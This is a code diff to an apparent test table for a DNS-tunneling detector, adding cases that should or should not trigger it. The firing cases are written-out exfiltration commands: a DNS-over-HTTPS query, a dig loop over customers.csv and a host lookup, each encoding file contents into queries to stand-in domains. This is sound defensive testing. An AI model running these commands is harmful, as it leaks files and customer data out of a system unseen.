@@ -3,6 +3,9 @@ import { commandNameTunnel } from './name-tunnel.ts';
 
 indicatorTable(commandNameTunnel, {
   fires: {
+    'a question over the web': script(
+      'curl -s -H "accept: application/dns-json" "https://dns.example.com/dns-query?type=A&name=$(base64 -w0 /data/a).q.example.net"',
+    ),
     'a file in pieces': script(
       'for b in $(xxd -p -c 30 /data/customers.csv); do dig +short $b.x.drop.example.com; done',
     ),
@@ -23,6 +26,12 @@ indicatorTable(commandNameTunnel, {
     'by another encoder': script('host $(openssl base64 -A -in /data/a).t.example.org'),
   },
   staysSilent: {
+    'a question over the web for a name that a variable holds': script(
+      'curl -s "https://dns.example.com/resolve?name=$HOST.shop.example.com&type=A"',
+    ),
+    'a search for what an encoder made': script(
+      'curl -s "https://api.example.com/find?name=$(echo "$USERNAME" | base64)"',
+    ),
     'a name of the container beside an encoder': script(
       'until nslookup $RELEASE.prod.example.com; do sleep 2; done; A=$(printf u:p | base64); curl -H "Authorization: Basic $A" https://api.example.com',
     ),
